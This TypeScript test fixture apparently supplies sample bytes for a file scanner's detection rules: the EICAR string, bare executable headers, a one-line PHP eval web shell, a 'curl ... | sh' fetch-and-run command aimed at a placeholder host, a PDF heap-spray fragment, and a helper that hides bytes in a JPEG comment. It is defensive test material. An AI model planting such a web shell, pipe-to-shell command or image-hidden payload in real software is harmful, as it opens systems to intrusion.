import { EICAR } from './eicar.ts';
import { rawPdf } from './raw-pdf.ts';

/** For each rule of ours, bytes of the shape that it looks for; none of them runs or does anything. */
export const INFECTED: readonly { rule: string; bytes: Buffer }[] = [
  { rule: 'vouch_eicar', bytes: Buffer.from(EICAR) },
  { rule: 'vouch_windows_program', bytes: windowsProgram() },
  { rule: 'vouch_linux_program', bytes: linuxProgram() },
  {
    rule: 'vouch_mac_program',
    bytes: Buffer.from('cffaedfe07000001030000000200000010000000', 'hex'),
  },
  { rule: 'vouch_server_script', bytes: Buffer.from('<?php @eval($_POST["x"]); ?>') },
  { rule: 'vouch_shell_command', bytes: Buffer.from('curl -s http://example.invalid/x | sh') },
  {
    rule: 'vouch_pdf_exploit',
    bytes: rawPdf({ page: '/X (var s = unescape("%u9090%u9090%u9090%u9090"))' }),
  },
];

/** The picture with these bytes in a comment, where no decoder looks. */
export function carrying(jpeg: Buffer, bytes: Buffer): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(bytes.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, bytes, jpeg.subarray(2)]);
}

/** Headers alone. */
function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE', 0x80, 'latin1');
  return bytes;
}

function linuxProgram(): Buffer {
  const bytes = Buffer.alloc(64);
  bytes.write('7f454c46020101', 0, 'hex');
  bytes.writeUInt16LE(2, 16);
  return bytes;
}
